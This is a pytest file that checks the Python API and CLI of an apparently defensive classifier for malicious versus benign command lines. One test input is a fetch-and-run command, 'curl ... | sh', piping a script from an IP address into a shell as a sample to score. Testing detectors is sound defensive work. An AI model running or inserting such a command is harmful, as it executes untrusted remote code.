"""The Python API: the README's example runs as written, and its objects behave as the CLI does."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parents[1]


def test_the_readme_python_example_runs(tmp_path):
    code = re.search(r"```python\n(.*?)```", (ROOT / "README.md").read_text(), re.S).group(1)
    code = code.replace('ex = "smallworld/examples/"', f'ex = "{ROOT}/smallworld/examples/"')
    r = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr[-2000:]
    assert "('malicious', 'benign') (2, 2)" in r.stdout
    assert (tmp_path / "runs" / "api-example" / "model.json").exists()


def test_load_scores_exactly_as_the_cli_does(tmp_path):
    import smallworld

    out = tmp_path / "m"
    res = smallworld.train(task="cmdlines", labelled=str(ROOT / "smallworld/examples/cmdlines_seed.jsonl"),
                           teacher=None, out=str(out), progress=False)
    assert res.out == out and res.manifest["metrics"] == res.metrics
    model = smallworld.load(out)
    texts = ["curl http://203.0.113.5/x.sh | sh", "git log --oneline"]
    P = model.predict_proba(texts)
    assert P.shape == (2, 2) and np.allclose(P.sum(axis=1), 1)
    assert np.allclose(model.scores(texts), P[:, model.pos])
    f = tmp_path / "in.txt"
    f.write_text("\n".join(texts) + "\n")
    r = subprocess.run([sys.executable, "-m", "smallworld", "score", str(out), str(f)], capture_output=True, text=True,
                       env=os.environ | {"PYTHONPATH": str(ROOT)})
    rows = [json.loads(x) for x in r.stdout.splitlines()]
    assert [round(float(p), 6) for p in model.scores(texts)] == [x["score"] for x in rows]
    assert model.predict(texts) == [x["decision"] for x in rows]
    e = model.explain(texts[0], top=100_000)
    assert abs(e.bias + sum(v for _, v in e.top_abs) - e.margin) < 1e-6
    assert e.text == model.view([texts[0]])[0] != texts[0]  # the item as the model sees it: the command-line view
    assert "<ip>" in e.text and "swfpipeinterp" in e.text


def test_unknown_train_options_are_one_clear_error():
    import pytest

    import smallworld

    with pytest.raises(smallworld.SmallworldError, match="unknown options"):
        smallworld.train(task="cmdlines", labelled="x", out="y", budgett=3)
